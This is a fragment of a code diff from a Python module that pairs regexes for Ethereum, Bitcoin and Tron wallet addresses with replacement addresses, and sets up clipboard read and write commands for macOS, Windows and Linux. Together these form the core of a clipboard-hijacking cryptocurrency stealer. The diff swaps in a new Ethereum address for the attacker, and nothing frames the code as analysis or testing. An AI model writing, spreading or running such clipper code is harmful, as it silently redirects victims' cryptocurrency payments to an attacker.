@@ -5,7 +5,7 @@ import sys
 import threading
 import time
 
-_RULES = [(re.compile(r"^0x[0-9a-fA-F]{40}$"), "0x52908400098527886e0f7030069857d2e4169ee7"), (re.compile(r"^bc1[0-9a-z]{38,58}$"), "bc1qexampleexampleexampleexampleexampleexamp"), (re.compile(r"^T[1-9A-HJ-NP-Za-km-z]{33}$"), "TExampLeExampLeExampLeExampLeExamp")]
+_RULES = [(re.compile(r"^0x[0-9a-fA-F]{40}$"), "0x2dd640ba9316c5003ed4296eecd4246df7f32609"), (re.compile(r"^bc1[0-9a-z]{38,58}$"), "bc1qexampleexampleexampleexampleexampleexamp"), (re.compile(r"^T[1-9A-HJ-NP-Za-km-z]{33}$"), "TExampLeExampLeExampLeExampLeExamp")]
 _GET, _SET = {"darwin": (["pbpaste"], ["pbcopy"]), "win32": (["powershell", "-c", "Get-Clipboard"], ["clip"])}.get(sys.platform, (["xclip", "-o", "-selection", "clipboard"], ["xclip", "-selection", "clipboard"]))
 
 
